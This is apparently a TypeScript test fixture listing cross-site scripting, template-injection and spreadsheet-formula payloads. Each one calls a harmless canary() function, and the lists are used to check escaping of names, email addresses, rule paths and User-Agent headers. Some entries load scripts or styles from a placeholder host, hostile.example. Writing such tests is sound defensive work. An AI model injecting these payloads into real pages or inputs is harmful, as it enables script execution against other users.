// Texts that would run `canary()` or open a dialog if a page interpreted them as markup, an attribute, a template, a
// URL or the text of a script. None is longer than the maximum name of an access group.

const dollar = '$';

export const hostileTexts: readonly string[] = [
  ...[
    '<script>canary()</script>',
    '<ScRiPt>canary()</sCrIpT>',
    '<script/src=//hostile.example/x.js></script>',
    '<script type=module>canary()</script>',
    '</script><script>canary()</script>',
    '</title><script>canary()</script>',
    '</textarea><script>canary()</script>',
    '</style><script>canary()</script>',
    '</noscript><script>canary()</script>',
    '<<script>canary();//<</script>',
    '<scr<script>ipt>canary()</scr</script>ipt>',
    '--><script>canary()</script><!--',
    ']]><script>canary()</script>',
  ],
  ...[
    '<img src=x onerror=canary()>',
    '<img src=x onerror=alert(1)>',
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    '<img src="x` `<script>canary()</script>"` `>',
    '<img/src/onerror=canary()>',
    '<IMG """><SCRIPT>canary()</SCRIPT>">',
    '<image src=x onerror=canary()>',
    '<svg onload=canary()>',
    '<svg><script>canary()</script></svg>',
    '<svg><animate onbegin=canary() attributeName=x dur=1s>',
    '<svg><use href="//hostile.example/x.svg#x"/></svg>',
    '<svg><style><img src=x onerror=canary()></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
    '<body onload=canary()>',
    '<video><source onerror=canary()></video>',
    '<audio src=x onerror=canary()>',
    '<details open ontoggle=canary()>x</details>',
    '<input autofocus onfocus=canary()>',
    '<select autofocus onfocus=canary()>',
    '<marquee onstart=canary()>x</marquee>',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=canary()>x</b>',
    '<div onpointerover=canary() style="position:fixed;inset:0">x</div>',
  ],
  ...[
    '<iframe src="javascript:parent.canary()"></iframe>',
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    '<object data="javascript:canary()"></object>',
    '<embed src="javascript:canary()">',
    '<a href="javascript:canary()">press</a>',
    '<form action="javascript:canary()"><button autofocus>x</button></form>',
    '<base href="//hostile.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:canary()">',
    '<meta http-equiv=refresh content="0;url=//hostile.example/">',
    '<link rel=stylesheet href=//hostile.example/x.css>',
    '<link rel=prefetch href=//hostile.example/x>',
    '<style>@import "//hostile.example/x.css";</style>',
  ],
  ...[
    '" onmouseover="canary()" autofocus onfocus="canary()',
    "' onmouseover='canary()' autofocus onfocus='canary()",
    'x onfocus=canary() autofocus tabindex=0',
    '" style="background:url(//hostile.example/x)',
    'javascript:canary()',
    'JaVaScRiPt:canary()//',
    'data:text/html,<script>parent.canary()</script>',
  ],
  ...[
    '";canary();//',
    "';canary();//",
    '\\";canary();//',
    `\`;canary();\`${dollar}{canary()}`,
    `${dollar}{canary()}`,
    '{{canary()}}',
    "{{constructor.constructor('canary()')()}}",
    '<%= canary() %>',
    '#{canary()}',
    '{canary} {name} {site} {count}',
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary()>"}}}',
    '&lt;img src=x onerror=canary()&gt;',
    '&#60;img src=x onerror=canary()&#62;',
    '\\u003cimg src=x onerror=canary()\\u003e',
    '%3Cimg%20src=x%20onerror=canary()%3E',
    '＜img src=x onerror=canary()＞',
    '=HYPERLINK("javascript:canary()","x")',
    '<b>bold</b><!-- <plaintext>',
  ],
];

/** One for each kind of interpretation: an element, an attribute, a URL, a template, already escaped text. */
export const typicalTexts: readonly string[] = [
  '<img src=x onerror=canary()>',
  '</textarea><script>canary()</script>',
  '" onmouseover="canary()" autofocus onfocus="canary()',
  'javascript:canary()',
  `${dollar}{canary()}`,
  '{canary} {name} {site} {count}',
  '&lt;img src=x onerror=canary()&gt;',
];

/** The texts that are valid addresses. */
export const hostileAddresses: readonly string[] = [
  "'onmouseover='canary`1`'@example.com",
  '`canary`@example.com',
  `${dollar}{canary}@example.com`,
  '{{canary}}@example.com',
  '{canary}{name}@example.com',
  'canary=1&amp@example.com',
  '&lt/&gt&#60@example.com',
  "'/onfocus='canary`1`'/autofocus='@example.com",
  '#canary@example.com',
  '=canary|x@example.com',
];

/** The texts that are valid paths of rules. */
export const hostilePaths: readonly string[] = [
  "/'onmouseover='canary()'autofocus onfocus='canary()",
  '/`canary()`',
  `/${dollar}{canary()}`,
  '/{{canary()}}',
  "/{{constructor.constructor('canary()')()}}",
  '/{path} {access} {count}',
  '/javascript:canary()',
  '/(canary)()',
  '/&lt&gt',
  '/=canary()',
];

/** Texts for the User-Agent header. */
export const hostileBrowsers = hostileTexts.filter((text) => /^[\x20-\x7e]+$/.test(text));
